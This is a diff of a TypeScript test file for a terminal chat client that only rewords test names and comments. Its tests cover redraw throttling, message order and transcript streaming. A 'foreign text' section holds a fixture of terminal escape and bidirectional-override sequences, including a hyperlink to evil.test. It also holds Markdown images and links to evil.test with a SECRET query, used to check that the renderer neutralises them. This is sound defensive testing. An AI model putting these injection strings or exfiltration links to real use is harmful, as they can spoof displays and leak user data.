@@ -13,10 +13,10 @@ const EVENTS = 1000
 let server: Server
 let url = ''
 
-/** A line without its looks, which are ours. */
+/** A line without our control sequences. */
 const plain = (line: string) => line.replace(/\u001b\[[\d;]*m/g, '')
 
-/** Answers a message with all its events in one burst. */
+/** Sends all events of an answer in one burst. */
 beforeAll(async () => {
   server = createServer((request, response) => {
     request.resume()
@@ -33,7 +33,7 @@ beforeAll(async () => {
 afterAll(() => void server.close())
 
 describe('a conversation in the view', () => {
-  it('is drawn 30 times a second at most, however fast the answer comes', async () => {
+  it('redraws at most 30 times a second, however fast the answer arrives', async () => {
     const chat = new ChatService({ url, token: 'app-x' }, { user: 'me' })
     const conversation = new Conversation(chat, {})
     const drawn: number[] = []
@@ -48,7 +48,7 @@ describe('a conversation in the view', () => {
     chat.close()
   })
 
-  it('sends messages one after another, in the order they came', async () => {
+  it('sends messages one after another, in order', async () => {
     const chat = new ChatService({ url, token: 'app-x' }, { user: 'me' })
     const conversation = new Conversation(chat, {})
     await Promise.all(['one', 'two', 'three'].map((query) => conversation.send(query)))
@@ -59,12 +59,12 @@ describe('a conversation in the view', () => {
   })
 })
 
-describe('what others wrote', () => {
+describe('foreign text in the view', () => {
   const HOSTILE =
     '\u001b]8;;https://evil.test/\u0007click\u001b]8;;\u0007 \u001b[2J\u009b31m \u202egnp.exe \u061c \u2028'
   const UNSAFE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/
 
-  it('is inert in every line of the view: answers, also while they grow, their sources, questions, notes and errors', () => {
+  it('contains no control characters: in answers, also partial ones, sources, questions, notes and errors', () => {
     for (const kind of ['question', 'answer', 'note', 'error'] as const)
       for (const more of [{}, { isGrowing: true as const }]) {
         const entry = { kind, text: HOSTILE, sources: [{ position: 1, name: HOSTILE }], thought: HOSTILE, ...more }
@@ -72,7 +72,7 @@ describe('what others wrote', () => {
       }
   })
 
-  it('is inert where the application and its tools are named', () => {
+  it('contains no control characters in names of the application and its tools', () => {
     const chat = new ChatService({ url, token: 'app-x' }, { user: 'me' })
     const state = new Conversation(chat, {}).state()
     const shown = statusOf({ ...state, name: HOSTILE, activity: HOSTILE, phase: 'answering' }, { search: undefined }, 0)
@@ -81,7 +81,7 @@ describe('what others wrote', () => {
     chat.close()
   })
 
-  it('shows the address of an image or a link, and fetches nothing; definitions stand as they are', () => {
+  it('shows the address of an image or link without fetching it, and definitions unchanged', () => {
     const text = '![x](https://evil.test/?d=SECRET) [a][1]\n\n[1]: https://evil.test/?d=SECRET'
     const lines = linesOf({ kind: 'answer', text }, 80).map((line) => plain(line.text))
     expect(lines).toEqual([
@@ -92,7 +92,7 @@ describe('what others wrote', () => {
     ])
   })
 
-  it('is inert in tables, code, addresses and entities of Markdown, whole or growing', () => {
+  it('contains no control characters in tables, code, addresses and entities of Markdown, partial or complete', () => {
     const text = `| ${HOSTILE} | b |\n|---|---|\n| &#27;[2J | &#x9b;31m |\n\n\`\`\`${HOSTILE}\n${HOSTILE}\n\`\`\`\n\n[a](<https://evil.test/&#27;x>) <b>${HOSTILE}</b>\n`
     const transcript = new Transcript()
     const shown = [...text].flatMap((_, at) => [
@@ -104,7 +104,7 @@ describe('what others wrote', () => {
   })
 })
 
-describe('a transcript', () => {
+describe('the transcript of a conversation', () => {
   const MARKDOWN = [
     '# Hours of the *shop*',
     '',
@@ -134,7 +134,7 @@ describe('a transcript', () => {
     'Done.',
   ].join('\n')
 
-  it('writes an answer that grows in parts that never change, and in the end the lines of the whole', () => {
+  it('prints a streamed answer in parts that never change, with the same final lines as the complete one', () => {
     const whole = linesOf({ kind: 'answer', text: MARKDOWN }, 60)
     for (const step of [1, 3, 7, 50]) {
       const transcript = new Transcript()
@@ -150,7 +150,7 @@ describe('a transcript', () => {
     }
   })
 
-  it('says that an answer was replaced, keeps what follows it in order, and fits narrow terminals', () => {
+  it('reports a replaced answer, keeps the order of what follows, and fits narrow terminals', () => {
     const transcript = new Transcript()
     const growing = { kind: 'answer', isGrowing: true } as const
     transcript.follow([{ ...growing, text: 'one\n\ntwo' }], 30)
@@ -175,7 +175,7 @@ describe('a transcript', () => {
     expect(Math.max(...narrow)).toBeLessThanOrEqual(20)
   })
 
-  it('folds the steps of an agent, and tells tokens, price and time', () => {
+  it('folds the steps of an agent, and shows tokens, price and time', () => {
     const step = { id: 'a', thought: '', tool: 'search;read', input: '{}', observation: 'found' }
     const usage = { tokens: 1204, price: '0.0031', currency: 'USD', seconds: 2.44 }
     const lines = linesOf({ kind: 'answer', text: 'Nine.', steps: [step, { ...step, id: 'b' }], usage }, 80)
